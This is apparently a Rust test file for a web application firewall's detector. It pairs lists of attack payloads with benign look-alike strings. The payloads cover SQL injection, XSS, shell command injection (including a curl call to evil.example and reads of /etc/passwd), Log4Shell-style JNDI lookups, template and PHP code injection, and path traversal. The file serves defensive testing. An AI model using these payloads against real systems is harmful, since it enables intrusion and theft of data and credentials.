//! What each recogniser must see, and the look-alikes it must let pass.

use gambeson_waas::{Inspector, Protection};

fn seen(value: &str) -> Vec<Protection> {
    Inspector::default()
        .inspect_value(value.as_bytes())
        .into_iter()
        .map(|finding| finding.protection)
        .collect()
}

#[track_caller]
fn attacks(protection: Protection, values: &[&str]) {
    let missed: Vec<_> = values.iter().filter(|value| !seen(value).contains(&protection)).collect();
    assert!(missed.is_empty(), "{protection} does not see {missed:#?}");
}

#[track_caller]
fn benign(values: &[&str]) {
    let alarms: Vec<_> =
        values.iter().map(|value| (value, seen(value))).filter(|(_, seen)| !seen.is_empty()).collect();
    assert!(alarms.is_empty(), "false alarms: {alarms:#?}");
}

#[test]
fn sql_that_changes_the_statement_around_it() {
    attacks(
        Protection::Sqli,
        &[
            "1 or 1=1",
            "' or 'a'='a",
            "x') or ('1'='1' -- ",
            "1 UNION/**/ALL SELECT null,version()",
            "7; drop table orders",
            "1)) WAITFOR DELAY '0:0:5'",
            ")/**/And/**/ELT(5253=3241,3241)",
            "root'-- ",
            "1 /*!50000union*/ /*!50000select*/ 1,2",
            "9 and (select count(*) from pets) > 0",
            "'||(select password from accounts limit 1)||'",
        ],
    );
}

#[test]
fn names_prose_and_filters_are_no_sql() {
    benign(&[
        "O'Brien",
        "D'Arcy & O'Neill",
        "Insert coin into slot; select drink",
        "please select one from the list and update me",
        "a 6'1\" or 6'2\" tall door",
        "status = 1 and type = 2",
        r#"{"where":{"or":[{"a":1},{"b":2}]}}"#,
        "rock 'n' roll or jazz -- whichever",
        "drop me a line; create a ticket or two",
        "ART-AND-2=2",
        "the union of all selected sets",
    ]);
}

#[test]
fn markup_and_script_that_would_run() {
    attacks(
        Protection::Xss,
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=prompt`1`>",
            "\" onmouseover=\"alert(1)",
            "<a href=\"jav\tascript:alert(1)\">x</a>",
            "';alert(document.cookie)//",
            "self[/**/'alert'/**/](1)",
            "[1,alert,1][1](1)",
            "<iframe srcdoc='<b>'>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ],
    );
}

#[test]
fn ordinary_markup_is_no_script() {
    benign(&[
        "<p style=\"color:red\">Hello <b>world</b></p>",
        "javascript: opens wrong window",
        "a < b and c > d",
        "I am <3 of this, one=1",
        "<a href=\"https://example.org/?a=1&b=2\" title=\"on sale\">shop</a>",
        "be on time = be happy",
        " Not A;Brand\";v=\"99",
    ]);
}

#[test]
fn commands_behind_a_separator() {
    attacks(
        Protection::Cmdi,
        &[
            "; cat /etc/passwd",
            "8.8.8.8 && whoami",
            "x | c''at /etc/hosts",
            "$(curl http://evil.example/x)",
            "`id`",
            "a;$u/bin$u/cat$u /etc$u/passwd",
            "; /???/c?t /???/p??s??",
            "x;cat${IFS}/etc/passwd",
            "; sleep 5",
            "() { :;}; /bin/id",
            "& type D:\\data\\secrets.txt",
            "RUN=$'uname';$RUN",
        ],
    );
}

#[test]
fn shell_words_in_english_are_no_commands() {
    benign(&[
        "what a long day; sleep 9 hours tonight",
        "find the time & make more",
        "| id | name | age |",
        "Examplebrowser/3.1 (X11; U; id; rv:9.9) Engine/1",
        "Tinybrowser/2 (Phone; Mini/1.0; U; nl) Engine/7",
        "salt & pepper; cut, sort and date the notes",
        "price: $5 (more or less)",
        "see `README.md` for details",
        "I have a dog; cat food is expensive at the shop",
    ]);
}

#[test]
fn code_of_servers_and_templates() {
    attacks(
        Protection::CodeInjection,
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
            "${${::-j}${::-n}di:rmi://x/a}",
            "{{7*7}}",
            "*{1*1}",
            "@(1+2)",
            "<?php system($_GET['c']); ?>",
            "__import__('os').popen('id').read()",
            "require('child_process').execSync('id')",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "O:8:\"Evil\":1:{s:1:\"a\";i:1;}",
            "%{(#context['x'])}",
        ],
    );
}

#[test]
fn placeholders_and_questions_are_no_code() {
    benign(&[
        "Hello {{ name }}, your order {{order.id}} is ready",
        "due {{1970-01-31}}, host {{10.0.0.1-10}}",
        "How do I use eval in Python?",
        "total (incl. VAT): 12 + 3 = 15",
        "${HOME} is my home",
        "See print (page 4) and input (page 5)",
    ]);
}

#[test]
fn paths_that_leave_their_directory() {
    attacks(
        Protection::Lfi,
        &[
            "../../../../etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "..\\..\\windows\\win.ini",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
            "....//....//etc/shadow",
            "/etc/passwd",
            "php://filter/convert.base64-encode/resource=index",
            "file:///proc/self/environ",
            "../../../var/task/app.py",
        ],
    );
}

#[test]
fn ordinary_paths_stay() {
    benign(&[
        "docs/guide/img/../../index",
        "images/logo.png",
        "https://example.org/a/../b.html",
        "../../components/Button.tsx/index.ts",
        "wait... what/ever...",
        "2024/11/24",
        "the log is in /tmp/build.log",
    ]);
}
